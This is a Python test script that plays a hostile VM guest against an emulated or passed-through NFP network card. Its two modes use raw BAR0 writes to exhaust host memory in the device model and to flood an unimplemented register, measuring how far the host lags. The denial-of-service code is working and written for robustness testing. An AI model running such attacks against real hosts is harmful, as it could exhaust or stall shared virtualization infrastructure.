#!/usr/bin/env python3
"""A hostile guest's attacks on the card, through the PCI resource file of
BAR0 with the nfp driver unbound (issue #8): what a few lines of Python in
a guest can make the device process on the host do.

  hostile.py mu-pages DEV PAGES [--stop FILE]
      Point expansion BAR0.2 at the MU target, BULK mapping (config word
      at BAR0+0x30008 = (1<<29)|(7<<23)|(base>>19), the driver's
      compute_bar(), nfpcore/nfp6000_pcie.c:236-251) and write one word
      per 4 KiB page: PAGES pages spread over the whole 40-bit MU address
      space, 4096 per 16 MiB window. A card with fixed memories backs at
      most their size; a model that backs every page it sees grows by
      4 KiB per write. Stops early once FILE exists (the host's helper
      creates it when the bound is already exceeded). Prints
      "pages N windows W seconds S".
  hostile.py log-flood DEV SECONDS [--done FILE]
      Write an unimplemented register (BAR0+0x639d48, the card's
      PCIe-internal target at an address nothing decodes) as fast as
      possible for SECONDS of guest time, then read a register: the read
      completes only after every posted write before it, so its latency is
      how far the card lagged behind the guest. Creates FILE (--done)
      after the read. Prints "writes N seconds S drain D".

Both enable the device's memory decoding (sysfs enable) for the attack and
drop that again afterwards.

The issue used BAR0.1 (BAR0+0x30004); BAR0.2 is used here because QEMU
overlays the MSI-X PBA on BAR0.1 (its page there never reaches the card).
The window that holds the service processor's structures (resource table,
NSP, hwinfo at 0x81_0000_0000) is skipped so that the driver can probe the
card again afterwards: the attack is about the host's memory, not about a
card surviving its own firmware's memory being overwritten.
"""
import argparse
import mmap
import os
import sys
import time

BAR0_SIZE = 128 << 20
SLICE = 16 << 20  # BAR0 / 8 (nfpcore/nfp6000_pcie.c:179-188)
EXPBAR_CFG = 0x30000  # NFP_PCIE_BAR(0) (nfpcore/nfp6000_pcie.c:37)
SLOT = 2
CPP_TARGET_MU = 7
MU_SPACE = 1 << 40
NSP_WINDOW = 0x81_0000_0000 & ~(SLICE - 1)
PAGE = 4096
UNIMPLEMENTED = 0x639D48


def enable(dev, on):
    with open(f"/sys/bus/pci/devices/{dev}/enable", "w") as f:
        f.write("1" if on else "0")


def bar0(dev):
    fd = os.open(f"/sys/bus/pci/devices/{dev}/resource0", os.O_RDWR | os.O_SYNC)
    m = mmap.mmap(fd, BAR0_SIZE, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    os.close(fd)
    # 32-bit accesses, one per element: a memoryview cast stores a whole
    # word at once.
    return m, memoryview(m).cast("I")


def mu_pages(args):
    m, w = bar0(args.dev)
    cfg = (EXPBAR_CFG + 4 * SLOT) // 4
    window = SLOT * SLICE
    per_window = SLICE // PAGE
    # One window more than needed: the service processor's is skipped.
    windows = -(-args.pages // per_window) + 1
    stride = max(SLICE, (MU_SPACE // windows) & ~(SLICE - 1))
    t0 = time.monotonic()
    pages = done_windows = 0
    base = 0
    while pages < args.pages and base < MU_SPACE:
        if base == NSP_WINDOW:
            base += stride
            continue
        if args.stop and os.path.exists(args.stop):
            break
        w[cfg] = (1 << 29) | (CPP_TARGET_MU << 23) | (base >> 19)
        _ = w[cfg]  # read back, as the driver does (nfp6000_bar_write)
        n = min(per_window, args.pages - pages)
        for p in range(n):
            # The last word of each page: away from structure headers.
            w[(window + p * PAGE + PAGE - 4) // 4] = 0x5A5A0000 | (p & 0xFFFF)
        _ = w[cfg]  # every posted write has reached the card
        pages += n
        done_windows += 1
        base += stride
    print(f"pages {pages} windows {done_windows} seconds {time.monotonic() - t0:.1f}")
    w.release()
    m.close()


def log_flood(args):
    m, w = bar0(args.dev)
    reg = UNIMPLEMENTED // 4
    probe = (EXPBAR_CFG + 4 * SLOT) // 4
    t0 = time.monotonic()
    n = 0
    while time.monotonic() - t0 < args.seconds:
        for i in range(1000):
            w[reg] = i
        n += 1000
    t1 = time.monotonic()
    _ = w[probe]
    drain = time.monotonic() - t1
    if args.done:
        open(args.done, "w").close()
    print(f"writes {n} seconds {t1 - t0:.1f} drain {drain:.2f}")
    w.release()
    m.close()


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("mu-pages")
    q.add_argument("dev")
    q.add_argument("pages", type=int)
    q.add_argument("--stop")
    q = sub.add_parser("log-flood")
    q.add_argument("dev")
    q.add_argument("seconds", type=float)
    q.add_argument("--done")
    args = p.parse_args()
    enable(args.dev, True)
    try:
        {"mu-pages": mu_pages, "log-flood": log_flood}[args.cmd](args)
    finally:
        enable(args.dev, False)


if __name__ == "__main__":
    sys.exit(main())
